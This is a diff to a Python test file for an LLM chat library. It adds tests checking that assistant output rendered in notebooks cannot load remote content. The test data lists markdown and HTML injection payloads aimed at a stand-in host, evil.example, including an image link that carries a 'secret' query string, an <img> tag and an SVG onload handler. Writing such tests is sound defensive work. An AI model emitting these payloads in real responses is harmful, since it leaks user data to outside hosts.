@@ -16,6 +16,7 @@ from ellmer_conformance.report import Report
 from ellmer_conformance.report.formats.html import page
 from ellmer_conformance.server import status_page
 from ellmer_core import contents_record, contents_replay
+from ellmer_core._chat.answers import Answer
 from ellmer_core._chat.console import ask_at_console
 from ellmer_core.errors import revealed
 from ellmer_core.live.browser import policy
@@ -78,6 +79,37 @@ def test_who_approves_sees_what_arguments_hide(monkeypatch):
     for text in (*asked, shown.arguments, shown.call, shown.title):
         assert [letter for letter in text if letter in INVISIBLE] == []
     assert r"\u202e" in shown.arguments
+
+
+LOADING = (
+    "![x](https://evil.example/?q=secret)",
+    "![x][y]\n\n[y]: https://evil.example/",
+    "\\![x](//evil.example)",
+    "`a\n` ![x](https://evil.example) `",
+    "- ```\n```\n![x](https://evil.example)",
+    '![](data:image/png;base64,AAAA) ![](data:image/png;base64,AAAA"https://evil.example)',
+    "<img src=https://evil.example>",
+    "<svg/onload=go()>",
+    "</p><!--",
+)
+
+
+@pytest.mark.parametrize("text", LOADING)
+def test_a_notebook_loads_nothing_that_a_model_names(text):
+    turn = ec.AssistantTurn([ec.ContentText(text), ec.ContentImageRemote("https://evil.example/pixel")])
+    chat = ec.chat("openai/gpt-4.1", api_key="k")
+    chat.set_turns([ec.UserTurn("?"), turn])
+    for shown in (Answer(turn, shown=False), turn, chat):
+        markdown = shown._repr_markdown_().replace("![](data:image/png;base64,AAAA)", "")
+        assert not re.search(r"!\[|<[a-z/!?]", markdown)
+        assert "default-src &#x27;none&#x27;; img-src data:" in shown._repr_html_()
+
+
+def test_a_notebook_shows_the_markdown_of_an_answer_that_loads_nothing():
+    text = "1 < 2, `a<2`, ![](data:image/png;base64,AAAA) **bold**! [x](https://example.com)"
+    answer = Answer(ec.AssistantTurn(text), shown=False)
+
+    assert (answer._repr_markdown_(), answer._repr_html_()) == (text, None)
 
 
 def test_every_page_has_a_policy_and_no_other_page_frames_the_live_ones():
